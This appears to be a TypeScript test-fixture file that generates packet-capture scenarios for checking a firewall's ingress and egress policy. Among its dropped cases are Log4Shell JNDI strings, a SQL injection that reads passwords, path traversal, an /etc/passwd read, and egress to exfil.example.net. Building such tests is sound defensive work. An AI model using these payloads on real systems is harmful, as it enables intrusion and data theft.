/**
 * The firewall scenario corpus: conversations shaped like the traffic real clients send, each with
 * the verdict the policy must reach. Captures are generated here (no binary fixtures).
 */
import { CaptureBuilder, Endpoint, Message } from './pcap';
import { clientFinishedAndRequest, clientHelloRecord, serverHelloRecord, splitAt } from './tls-messages';

export type Verdict = 'pass' | 'drop';

export interface Scenario {
  readonly id: string;
  readonly title: string;
  readonly expected: Verdict;
  /** The controls (CONTROLS.md) the scenario is evidence for. */
  readonly controls: readonly string[];
  readonly client: Endpoint;
  readonly server: Endpoint;
  readonly messages: readonly Message[];
}

/** What the corpus is built from: the VPC's address block, the site name, the egress allowlist. */
export interface ScenarioInputs {
  readonly homeNet: readonly string[];
  readonly siteName: string;
  readonly egressAllowedDomains: readonly string[];
}

/** 1460-byte MSS minus TCP timestamps: where a large ClientHello is cut. */
const FIRST_SEGMENT_BYTES = 1448;

function hostIn(cidr: string, offset: number): string {
  const [base] = cidr.split('/');
  const n = base.split('.').reduce((acc, o) => acc * 256 + Number(o), 0) + offset;
  return [24, 16, 8, 0].map((s) => (n >>> s) & 0xff).join('.');
}

const msg = (from: 'client' | 'server', ...segments: Buffer[]): Message => ({ from, segments });
const text = (s: string) => Buffer.from(s, 'latin1');

function tlsConversation(serverName: string | undefined, postQuantum: boolean): Message[] {
  const hello = clientHelloRecord({ serverName, postQuantum });
  return [msg('client', ...splitAt(hello, FIRST_SEGMENT_BYTES)), msg('server', serverHelloRecord()), msg('client', clientFinishedAndRequest())];
}

function httpConversation(host: string, target: string, extraHeaders = ''): Message[] {
  return [
    msg('client', text(`GET ${target} HTTP/1.1\r\nHost: ${host}\r\nUser-Agent: Mozilla/5.0\r\nAccept: */*\r\n${extraHeaders}\r\n`)),
    msg('server', text(`HTTP/1.1 301 Moved Permanently\r\nLocation: https://${host}${target.startsWith('/') ? '/' : ''}\r\nContent-Length: 0\r\n\r\n`)),
  ];
}

/**
 * The egress allowlist as deployed, read back from the traffic-policy rules' messages
 * ("HS-EGRESS <domain> (TLS)", written by egressAllowlistRules).
 */
export function egressDomainsOf(rules: readonly string[]): string[] {
  const domains = rules.map((r) => /msg:"HS-EGRESS (\S+) \(TLS\)"/.exec(r)?.[1]).filter((d): d is string => d !== undefined);
  return [...new Set(domains)];
}

/** A host name the allowlist entry admits: the name itself, or a subdomain for ".example.com". */
export function allowedHostFor(domain: string): string {
  return domain.startsWith('.') ? `registry${domain}` : domain;
}

export function firewallScenarios(inputs: ScenarioInputs): Scenario[] {
  if (inputs.homeNet.length === 0) throw new Error('the policy declares no HOME_NET: cannot place the load balancer and the tasks');
  const alb = hostIn(inputs.homeNet[0], 10);
  const task = hostIn(inputs.homeNet[0], 64 * 256 + 10);
  let port = 40000;
  const internetClient = (): Endpoint => ({ ip: '198.51.100.7', port: port++ });
  const workload = (): Endpoint => ({ ip: task, port: port++ });
  const internet = (p: number): Endpoint => ({ ip: '203.0.113.50', port: p });
  const site = inputs.siteName;

  const ingress = (id: string, title: string, expected: Verdict, dport: number, messages: Message[]): Scenario => ({
    id: `ingress/${id}`,
    title,
    expected,
    // Attacks on an allowed port are the IPS's (NET-2); what may come in at all is NET-1's.
    controls: expected === 'drop' && dport !== 22 ? ['NET-2'] : ['NET-1'],
    client: internetClient(),
    server: { ip: alb, port: dport },
    messages,
  });
  const egress = (id: string, title: string, expected: Verdict, dport: number, messages: Message[]): Scenario => ({
    id: `egress/${id}`,
    title,
    expected,
    controls: dport === 1389 ? ['NET-2', 'NET-6'] : expected === 'drop' ? ['NET-1', 'NET-6'] : ['NET-6'],
    client: workload(),
    server: internet(dport),
    messages,
  });

  const scenarios: Scenario[] = [
    ingress('https-classic-clienthello', `HTTPS to the load balancer, one-segment ClientHello (SNI ${site})`, 'pass', 443, tlsConversation(site, false)),
    ingress('https-post-quantum-split-clienthello', 'HTTPS to the load balancer, X25519MLKEM768 ClientHello over 2 TCP segments (today\'s browsers)', 'pass', 443, tlsConversation(site, true)),
    ingress('http-to-redirect-listener', 'plain HTTP to the redirect listener (answered with 301)', 'pass', 80, httpConversation(site, '/')),
    ingress('log4shell-in-uri', 'Log4Shell JNDI lookup in the URI on port 80', 'drop', 80, httpConversation(site, '/?q=${jndi:ldap://203.0.113.9:1389/a}')),
    ingress('log4shell-in-header', 'Log4Shell JNDI lookup in a header on port 80', 'drop', 80, httpConversation(site, '/', 'X-Api-Version: ${jndi:ldap://203.0.113.9/a}\r\n')),
    ingress('sql-injection', 'SQL injection (UNION SELECT) in the URI on port 80', 'drop', 80, httpConversation(site, '/items?id=1%20UNION%20SELECT%20password%20FROM%20users')),
    ingress('path-traversal', 'path traversal in the URI on port 80', 'drop', 80, httpConversation(site, '/static/..%2f..%2f..%2fapp/config.json')),
    ingress('system-file-read', '/etc/passwd read attempt on port 80', 'drop', 80, httpConversation(site, '/download?file=/etc/passwd')),
    ingress('ssh-to-non-web-port', 'SSH to port 22 of the load balancer address (not a web port)', 'drop', 22, [msg('client', text('SSH-2.0-OpenSSH_9.6\r\n'))]),
  ];

  for (const domain of inputs.egressAllowedDomains) {
    const host = allowedHostFor(domain);
    scenarios.push(
      egress(`allowlisted-${host}-tls`, `HTTPS to allowlisted ${host}, one-segment ClientHello`, 'pass', 443, tlsConversation(host, false)),
      egress(`allowlisted-${host}-tls-split`, `HTTPS to allowlisted ${host}, post-quantum ClientHello over 2 segments (Node 24, Go 1.24+)`, 'pass', 443, tlsConversation(host, true)),
      egress(`allowlisted-${host}-http`, `plain HTTP to allowlisted ${host}`, 'pass', 80, httpConversation(host, '/v2/')),
    );
    const bare = domain.replace(/^\./, '');
    scenarios.push(
      egress(`lookalike-suffix-${host}`, `look-alike: evil${bare} (suffix without the dot boundary)`, 'drop', 443, tlsConversation(`evil${bare}`, false)),
      egress(`lookalike-prefix-${host}`, `look-alike: ${host}.evil.example (allowlisted name as a prefix)`, 'drop', 443, tlsConversation(`${host}.evil.example`, false)),
    );
  }
  scenarios.push(
    egress('not-allowlisted-tls', 'HTTPS to a host not on the allowlist', 'drop', 443, tlsConversation('exfil.example.net', false)),
    egress('not-allowlisted-tls-split', 'HTTPS to a host not on the allowlist, post-quantum ClientHello over 2 segments', 'drop', 443, tlsConversation('exfil.example.net', true)),
    egress('no-sni', 'TLS without SNI', 'drop', 443, tlsConversation(undefined, false)),
    egress('not-allowlisted-http', 'plain HTTP to a host not on the allowlist', 'drop', 80, httpConversation('exfil.example.net', '/upload')),
    egress('ldap-callback', 'LDAP to the internet (JNDI callback)', 'drop', 1389, [msg('client', Buffer.from('300c020101600702010304008000', 'hex'))]),
  );
  return scenarios;
}

/** One capture holding every scenario, each a separate TCP conversation. */
export function captureOf(scenarios: readonly Scenario[]): CaptureBuilder {
  const capture = new CaptureBuilder();
  for (const s of scenarios) capture.conversation(s.id, s.client, s.server, s.messages);
  return capture;
}
